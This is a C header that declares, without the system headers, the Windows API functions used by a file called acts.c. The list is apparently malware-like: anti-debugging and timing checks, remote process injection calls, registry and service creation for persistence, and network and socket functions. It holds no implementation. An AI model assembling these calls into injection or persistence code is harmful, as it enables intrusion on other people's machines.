/* What acts.c calls of Windows, without anybody's headers. */
typedef void *handle;
typedef __UINTPTR_TYPE__ word;
typedef unsigned int dword;
#define W __declspec(dllimport) __stdcall

dword W GetModuleFileNameA(handle, char *, dword);
int W GetComputerNameA(char *, dword *);
dword W GetFileAttributesA(const char *);
handle W CreateFileA(const char *, dword, dword, void *, dword, dword, handle);
int W WriteFile(handle, const void *, dword, dword *, void *);
int W CloseHandle(handle);
int W CopyFileA(const char *, const char *, int);
int W DeleteFileA(const char *);
int W CreateDirectoryA(const char *, void *);
int W CreateProcessA(const char *, char *, void *, void *, int, dword, void *, const char *, void *, void *);
dword W WaitForSingleObject(handle, dword);
void W ExitProcess(dword);
void W Sleep(dword);
int W IsDebuggerPresent(void);
dword W GetTickCount(void);
handle W CreateMutexA(void *, int, const char *);
void *W VirtualAlloc(void *, word, dword, dword);
void *W VirtualAllocEx(handle, void *, word, dword, dword);
int W WriteProcessMemory(handle, void *, const void *, word, word *);
handle W CreateRemoteThread(handle, void *, word, void *, void *, dword, dword *);
int W TerminateProcess(handle, dword);
char *W GetCommandLineA(void);
handle W GetModuleHandleA(const char *);
void *W GetProcAddress(handle, const char *);
handle W LoadLibraryA(const char *);

int W RegCreateKeyExA(handle, const char *, dword, char *, dword, dword, void *, handle *, dword *);
int W RegOpenKeyExA(handle, const char *, dword, dword, handle *);
int W RegSetValueExA(handle, const char *, dword, dword, const void *, dword);
int W RegEnumKeyA(handle, dword, char *, dword);
int W RegDeleteValueA(handle, const char *);
int W RegCloseKey(handle);
handle W OpenSCManagerA(const char *, const char *, dword);
handle W CreateServiceA(handle, const char *, const char *, dword, dword, dword, dword, const char *, const char *, dword *, const char *,
                        const char *, const char *);
int W CloseServiceHandle(handle);

handle W InternetOpenA(const char *, dword, const char *, const char *, dword);
handle W InternetOpenUrlA(handle, const char *, const char *, dword, dword, word);

int W WSAStartup(unsigned short, void *);
word W socket(int, int, int);
int W connect(word, const void *, int);
int W send(word, const char *, int, int);
void *W gethostbyname(const char *);
